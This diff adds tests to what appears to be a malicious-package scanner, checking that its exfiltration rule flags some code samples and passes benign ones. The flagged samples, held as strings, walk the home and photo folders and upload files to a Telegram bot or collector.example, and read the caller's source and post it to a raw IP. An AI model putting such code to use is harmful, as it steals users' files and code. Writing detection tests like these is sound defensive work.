@@ -401,6 +401,39 @@ def test_dns_lookup_of_the_users_identity_is_high() -> None:
     assert [f.severity for f in run(R, plain) if f.rule == "PV-EXF-DNS"] == [Severity.MEDIUM]
 
 
+def test_files_gathered_from_the_home_folder_and_uploaded_are_exfiltration() -> None:
+    """The 2024 proxy-scraper packages walked the phone's and the user's folders for photos and
+    scripts and sent each to a Telegram bot; a tool reading its own folder under ``~/.config``
+    and checking for updates does not gather the user's files."""
+    template = (
+        "import os, requests\n"
+        "def _send(path):\n"
+        "    with open(path, 'rb') as fh:\n"
+        "        requests.post('{url}', files={{'document': fh}})\n"
+        "def collect():\n"
+        "    for root in ('/sdcard/DCIM', os.path.expanduser('~')):\n"
+        "        for dp, dn, fns in os.walk(root):\n"
+        "            for fn in fns:\n"
+        "                if fn.lower().endswith(('.jpg', '.py', '.zip')):\n"
+        "                    _send(os.path.join(dp, fn))\n"
+    )
+
+    def combo(url: str) -> list[Severity]:
+        return severities(R, py(template.format(url=url), stage=Stage.RUNTIME), "PV-EXF-COMBO")
+
+    assert combo("https://api.telegram.org/bot123:abc/sendDocument") == [Severity.CRITICAL]
+    assert combo("https://collector.example/upload") == [Severity.HIGH]
+    own_folder = py(
+        "import os, glob, requests\n"
+        "def plugins():\n"
+        "    return glob.glob(os.path.join(os.path.expanduser('~/.config/tool'), '*.json'))\n"
+        "def latest():\n"
+        "    return requests.get('https://tools.example/latest.json').json()\n",
+        stage=Stage.RUNTIME,
+    )
+    assert "PV-EXF-COMBO" not in ids(run(R, own_folder))
+
+
 def test_a_wallet_secret_sent_anywhere_is_critical_but_a_certificate_key_is_not() -> None:
     stake = py(
         "import json, urllib.request\n"
@@ -524,3 +557,28 @@ def test_a_credential_file_mailed_or_uploaded_over_ftp_is_sent() -> None:
         "smtplib.SMTP('localhost').send_message(m)\n"
     )
     assert "PV-EXF-COMBO" not in ids(run(ALL, py(report, path="acme/__init__.py")))
+
+
+def test_the_callers_source_sent_to_a_bare_ip_is_exfiltration() -> None:
+    """solana-token read the source of the program that called it and posted it to a raw IP;
+    a notifier naming the running script in its message reads no source."""
+    thief = py(
+        "import inspect, json, os, sys, urllib.request\n"
+        "def register_node(address):\n"
+        "    caller = inspect.stack()[1].filename\n"
+        "    for p in {caller, os.path.abspath(sys.argv[0])}:\n"
+        "        files[p] = open(p).read()\n"
+        "    urllib.request.urlopen('http://45.13.7.9:8080/register', data=json.dumps(files).encode())\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, thief, "PV-EXF-COMBO") == [Severity.CRITICAL]
+    notifier = py(
+        "import sys, requests\n"
+        "def done(token, chat):\n"
+        "    text = f'{sys.argv[0]} finished'\n"
+        "    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'text': text})\n"
+        "def attach(path):\n"
+        "    return open(path, 'rb')\n",
+        stage=Stage.RUNTIME,
+    )
+    assert "PV-EXF-COMBO" not in ids(run(R, notifier))
